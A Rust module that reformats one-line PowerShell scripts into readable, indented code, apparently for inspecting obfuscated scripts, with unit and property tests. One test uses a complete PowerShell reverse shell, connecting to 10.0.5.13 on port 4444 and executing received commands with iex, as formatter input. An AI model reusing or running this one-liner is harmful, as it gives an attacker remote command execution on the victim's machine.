//! Line breaks and indentation for scripts that have none, so that they can be read.
//!
//! Only white space between tokens changes, and none of a string: the formatted text has the same tokens. Statements,
//! and blocks that are not short, begin on lines of their own; long pipelines break after `|`.

use super::lexer::{PlacedToken, lex, lex_placed};
use super::lexer::{Token, TokenKind};
use crate::limits;

/// Columns of a line past which a pipeline is broken.
const LINE: usize = 100;

/// Bytes up to which a block without statements of its own stays on one line.
const SHORT_BLOCK: usize = 60;

/// Spaces of one level.
const LEVEL: usize = 4;

/// Levels past which lines are no longer indented further: nothing would be left of the width of a screen.
const MOST_LEVELS: usize = 16;

/// A formatted text, and where its parts come from.
#[derive(Debug, PartialEq, Eq)]
pub(crate) struct Formatted {
    pub(crate) text: String,
    /// Ascending in both texts.
    pub(crate) runs: Vec<FormattedRun>,
}

/// Bytes that both texts have in common. Only white space is between runs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) struct FormattedRun {
    /// Offset in the formatted text.
    pub(crate) start: usize,
    /// Offset in the script.
    pub(crate) source: usize,
    pub(crate) length: usize,
}

/// Formats a script. A text whose tokens would change, or which is too long, stays as it is.
pub(crate) fn format(text: &str) -> Formatted {
    let formatted =
        if text.len() > limits::FORMATTED_BYTES { None } else { Formatter::new(text).format() };
    formatted.filter(|formatted| has_tokens_of(&formatted.text, text)).unwrap_or_else(|| {
        let run = FormattedRun { start: 0, source: 0, length: text.len() };
        Formatted { text: text.to_owned(), runs: vec![run] }
    })
}

/// Whether two texts have the same tokens.
fn has_tokens_of(one: &str, other: &str) -> bool {
    let shown = |text: &'_ str, token: Token| {
        (text.get(token.start..token.end).map(str::to_owned), token.kind)
    };
    let mut others = lex(other);
    let same = lex(one).all(|token| {
        others.next().is_some_and(|other_token| shown(one, token) == shown(other, other_token))
    });
    same && others.next().is_none()
}

/// An open bracket.
struct Open {
    /// Indentation of the line that it is on.
    outer: usize,
    /// Its content begins on a new line, and so does the bracket that closes it.
    is_broken: bool,
    /// Semicolons in it end statements.
    has_statements: bool,
}

struct Formatter<'a> {
    text: &'a str,
    tokens: Vec<PlacedToken>,
    /// For each token that opens a bracket, the index of the one that closes it.
    closing: Vec<usize>,
    out: String,
    runs: Vec<FormattedRun>,
    open: Vec<Open>,
    /// Levels of the present line, and the offset of its first byte.
    level: usize,
    line: usize,
}

/// What is between two tokens.
enum Gap<'a> {
    Text(&'a str),
    Break { lines: usize },
}

impl<'a> Formatter<'a> {
    fn new(text: &'a str) -> Self {
        let tokens: Vec<PlacedToken> = lex_placed(text).collect();
        let mut formatter = Self {
            text,
            closing: vec![0; tokens.len()],
            tokens,
            out: String::with_capacity(text.len() + text.len() / 4),
            runs: Vec::new(),
            open: Vec::new(),
            level: 0,
            line: 0,
        };
        formatter.match_brackets();
        formatter
    }

    fn format(mut self) -> Option<Formatted> {
        let limit = limits::FORMATTED_FACTOR * self.text.len() + limits::VIEW_MIN_BYTES;
        for index in 0..self.tokens.len() {
            let token = self.tokens.get(index)?.token;
            match self.gap(index) {
                Gap::Text(space) => self.out.push_str(space),
                Gap::Break { lines } => self.break_line(index, lines),
            }
            self.copy(token);
            self.track(index);
            if self.out.len() > limit {
                return None;
            }
        }
        Some(Formatted { text: self.out, runs: self.runs })
    }

    /// Finds for each bracket the one that closes it.
    fn match_brackets(&mut self) {
        let mut open = Vec::new();
        for index in 0..self.tokens.len() {
            if self.opens(index) {
                open.push(index);
            } else if self.closes(index)
                && let Some(opening) = open.pop()
                && let Some(closing) = self.closing.get_mut(opening)
            {
                *closing = index;
            }
        }
    }

    fn placed(&self, index: usize) -> Option<PlacedToken> {
        self.tokens.get(index).copied()
    }

    fn token_text(&self, index: usize) -> &'a str {
        let token = self.placed(index).map(|placed| placed.token);
        token.and_then(|token| self.text.get(token.start..token.end)).unwrap_or_default()
    }

    fn depth_before(&self, index: usize) -> usize {
        index.checked_sub(1).and_then(|before| self.placed(before)).map_or(0, |placed| placed.depth)
    }

    /// Whether a token is a bracket that opens code.
    fn opens(&self, index: usize) -> bool {
        let Some(placed) = self.placed(index) else { return false };
        placed.depth > self.depth_before(index)
            && placed.token.kind != TokenKind::String
            && self.token_text(index).ends_with(['{', '(', '['])
    }

    /// Whether a token is a bracket that closes code.
    fn closes(&self, index: usize) -> bool {
        let Some(placed) = self.placed(index) else { return false };
        placed.depth < self.depth_before(index) && placed.token.kind != TokenKind::String
    }

    /// Decides what is between a token and the one before it.
    fn gap(&self, index: usize) -> Gap<'a> {
        let Some(token) = self.placed(index).map(|placed| placed.token) else {
            return Gap::Text("");
        };
        let Some(before) = index.checked_sub(1).and_then(|before| self.placed(before)) else {
            return Gap::Text("");
        };
        let space = self.text.get(before.token.end..token.start).unwrap_or_default();
        if before.in_string {
            return Gap::Text(space);
        }
        let last = self.token_text(index - 1);
        if last.starts_with('`') && last.ends_with(['\n', '\r']) {
            return Gap::Break { lines: 0 };
        }
        let lines = line_ends(space);
        if lines > 0 {
            return Gap::Break { lines: lines.min(2) };
        }
        if self.begins_line(index, before) {
            return Gap::Break { lines: 1 };
        }
        Gap::Text(if space.is_empty() { "" } else { " " })
    }

    /// Whether a line break is added before a token.
    fn begins_line(&self, index: usize, before: PlacedToken) -> bool {
        let innermost = self.open.last();
        if self.closes(index) {
            return innermost.is_some_and(|open| open.is_broken);
        }
        let kind = self.placed(index).map(|placed| placed.token.kind);
        if kind == Some(TokenKind::Comment) {
            return false;
        }
        let is_broken = innermost.is_none_or(|open| open.is_broken);
        match self.token_text(index - 1) {
            _ if self.opens(index - 1) => innermost.is_some_and(|open| open.is_broken),
            ";" => is_broken && innermost.is_none_or(|open| open.has_statements),
            "}" | ")" if self.closes(index - 1) => {
                is_broken && before.before_statement && !self.continues_block(index)
            }
            "|" => is_broken && self.is_too_long(index),
            _ => false,
        }
    }

    /// Whether a token belongs to the block before it.
    fn continues_block(&self, index: usize) -> bool {
        const WORDS: [&str; 6] = ["else", "elseif", "catch", "finally", "while", "until"];
        let text = self.token_text(index);
        WORDS.iter().any(|word| text.eq_ignore_ascii_case(word))
            || matches!(text, ";" | ")" | "," | "{" | ".")
    }

    /// Whether the command that begins here does not fit in the line.
    fn is_too_long(&self, index: usize) -> bool {
        let used = self.out.len() - self.line;
        let Some(start) = self.placed(index).map(|placed| placed.token.start) else { return false };
        let mut next = index;
        while let Some(placed) = self.placed(next) {
            if used + placed.token.end - start > LINE {
                return true;
            }
            if matches!(self.token_text(next), "|" | ";") || self.closes(next) {
                return false;
            }
            next = self.after(next);
        }
        false
    }

    /// Returns the index of the next token that is not in brackets which this one opens.
    fn after(&self, index: usize) -> usize {
        self.closing.get(index).copied().unwrap_or(0).max(index) + 1
    }

    /// Whether the content of a bracket begins on a new line.
    fn is_broken(&self, index: usize) -> bool {
        let (opening, closing) =
            (self.placed(index), self.closing.get(index).copied().unwrap_or(0));
        let (Some(opening), Some(end)) = (opening, self.placed(closing)) else { return false };
        if opening.in_string || !self.token_text(index).ends_with('{') {
            return false;
        }
        // A bracket that nothing closes is damaged or hostile.
        if closing == 0 {
            return true;
        }
        if end.token.end - opening.token.start > SHORT_BLOCK {
            return true;
        }
        let is_table = self.token_text(index).starts_with('@');
        let mut inner = index + 1;
        let mut has_statements = false;
        while inner < closing && !is_table {
            has_statements |= self.token_text(inner) == ";";
            inner = self.after(inner);
        }
        let content = self.text.get(opening.token.start..end.token.end).unwrap_or_default();
        has_statements || content.contains(['\n', '\r'])
    }

    /// Notes what a token opens and closes.
    fn track(&mut self, index: usize) {
        if self.opens(index) {
            let text = self.token_text(index);
            let is_broken = self.is_broken(index);
            let has_statements = text != "(" && !text.ends_with('[');
            self.open.push(Open { outer: self.level, is_broken, has_statements });
        } else if self.closes(index) {
            self.open.pop();
        }
    }

    /// Begins a new line before a token, after `lines` line ends.
    fn break_line(&mut self, index: usize, lines: usize) {
        self.out.extend(std::iter::repeat_n('\n', lines));
        let inner = self.open.last().map_or(0, |open| open.outer + 1);
        self.level = match self.open.last() {
            Some(open) if self.closes(index) => open.outer,
            _ if self.is_continued(index) => inner + 1,
            _ => inner,
        };
        self.line = self.out.len();
        let spaces = LEVEL * self.level.min(MOST_LEVELS);
        self.out.extend(std::iter::repeat_n(' ', spaces));
    }

    /// Whether a token goes on with the statement of the line before.
    fn is_continued(&self, index: usize) -> bool {
        let Some(before) = index.checked_sub(1) else { return false };
        let text = self.token_text(before);
        match self.placed(before).map(|placed| placed.token.kind) {
            _ if self.opens(before) => false,
            Some(TokenKind::Operator) => !matches!(text, "++" | "--"),
            _ => text == ",",
        }
    }

    fn copy(&mut self, token: Token) {
        let content = self.text.get(token.start..token.end).unwrap_or_default();
        let (start, source) = (self.out.len(), token.start);
        match self.runs.last_mut() {
            Some(last)
                if last.start + last.length == start && last.source + last.length == source =>
            {
                last.length += content.len();
            }
            _ => self.runs.push(FormattedRun { start, source, length: content.len() }),
        }
        if let Some(at) = content.rfind('\n') {
            self.line = start + at + 1;
        }
        self.out.push_str(content);
    }
}

/// Returns the number of line ends in white space.
fn line_ends(space: &str) -> usize {
    let feeds = space.matches('\n').count();
    let returns = space.matches('\r').count();
    feeds.max(returns)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn formatted(text: &str) -> String {
        check(text).unwrap();
        format(text).text
    }

    fn check(text: &str) -> Result<(), TestCaseError> {
        let formatted = format(text);
        prop_assert!(has_tokens_of(&formatted.text, text));
        let mut end = (0, 0);
        for run in &formatted.runs {
            let (own, source) =
                (run.start..run.start + run.length, run.source..run.source + run.length);
            prop_assert_eq!(&formatted.text[own.clone()], &text[source.clone()]);
            prop_assert!(formatted.text[end.0..own.start].trim().is_empty());
            prop_assert!(text[end.1..source.start].trim().is_empty());
            end = (own.end, source.end);
        }
        prop_assert!(text[end.1..].trim().is_empty());
        prop_assert!(formatted.text.len() <= 8 * text.len() + limits::VIEW_MIN_BYTES + 100);
        Ok(())
    }

    #[test]
    fn one_line_becomes_many() {
        let text = "$c=New-Object Net.Sockets.TCPClient('10.0.5.13',4444);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};\
            while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);\
            try{$r=(iex $d 2>&1|Out-String)}catch{$r=\"$( $_ ; 1 )\"};$s.Flush()};$c.Close()";
        assert_eq!(
            formatted(text),
            "\
$c=New-Object Net.Sockets.TCPClient('10.0.5.13',4444);
$s=$c.GetStream();
[byte[]]$b=0..65535|%{0};
while(($i=$s.Read($b,0,$b.Length)) -ne 0){
    $d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);
    try{$r=(iex $d 2>&1|Out-String)}catch{$r=\"$( $_ ; 1 )\"};
    $s.Flush()
};
$c.Close()"
        );
    }

    #[test]
    fn strings_here_strings_and_comments_stay() {
        let text =
            "$a = 'x;  {y}' ; $b = @\"\n  { $a ;\n  x }\n\"@ ; <# a ;\n b #> foo # c ; {  d\nbar";
        assert_eq!(
            formatted(text),
            "$a = 'x;  {y}' ;\n$b = @\"\n  { $a ;\n  x }\n\"@ ; <# a ;\n b #> foo # c ; {  d\nbar"
        );
    }

    #[test]
    fn loops_and_short_blocks_stay_on_a_line() {
        let text = "for ($i=0; $i -lt 5; $i++) { $i }  ;  Get-Process | Where-Object { $_.Id -gt 5 } | foreach { kill $_ }; @{a=1; b=2}";
        assert_eq!(
            formatted(text),
            "for ($i=0; $i -lt 5; $i++) { $i } ;\nGet-Process | Where-Object { $_.Id -gt 5 } | foreach { kill $_ };\n@{a=1; b=2}"
        );
    }

    #[test]
    fn blocks_are_indented() {
        let text = "function f { param($a) if ($a) { Write-Output 'a long enough line to be broken'; g } else { h; i } }\nf 1";
        assert_eq!(
            formatted(text),
            "\
function f {
    param($a)
    if ($a) {
        Write-Output 'a long enough line to be broken';
        g
    } else {
        h;
        i
    }
}
f 1"
        );
        let text = "if (1) {\n\n\n a `\n   -b\n\t\t} # c\n$x = 1,\n2";
        assert_eq!(formatted(text), "if (1) {\n\n    a `\n        -b\n} # c\n$x = 1,\n    2");
    }

    #[test]
    fn a_long_pipeline_breaks_after_pipes() {
        let text = format!(
            "Get-Content a{} | Where-Object {{ $_ }} | Out-File b{}",
            "a".repeat(70),
            "b".repeat(30)
        );
        let lines = formatted(&text);
        assert!(lines.contains("|\n    Where-Object { $_ } | Out-File b"), "{lines}");
    }

    #[test]
    fn hostile_nesting_is_linear() {
        for text in
            ["{".repeat(200_000), "{;".repeat(100_000), "(".repeat(200_000), "a{b}|".repeat(50_000)]
        {
            check(&text).unwrap();
        }
        let long = "x;".repeat(limits::FORMATTED_BYTES / 2 + 1);
        assert_eq!(format(&long).text, long);
    }

    proptest! {
        #[test]
        fn any_text_has_the_same_tokens(text in "[ -~\n\r\t“’–äK😀]{0,80}") {
            check(&text)?;
        }

        #[test]
        fn any_sequence_of_pieces_has_the_same_tokens(
            pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)
        ) {
            check(&pieces.concat())?;
        }
    }

    const PIECES: &[&str] = &[
        "\"", "'", "@\"\n", "\n\"@", "$(", "$x", "@(", "@{", "(", ")", "{", "}", " } ", " { ", ";",
        "; ", "[", "]", "[int]", "::", ".", "-eq", "#", "<#", "#>", "`\n", "\n", "\r\n", " ", ",",
        "|", " | ", "&", "=", "if", "else", "param", "function", "foo", "foo bar", "1.5kb",
        "while", "return ",
    ];
}
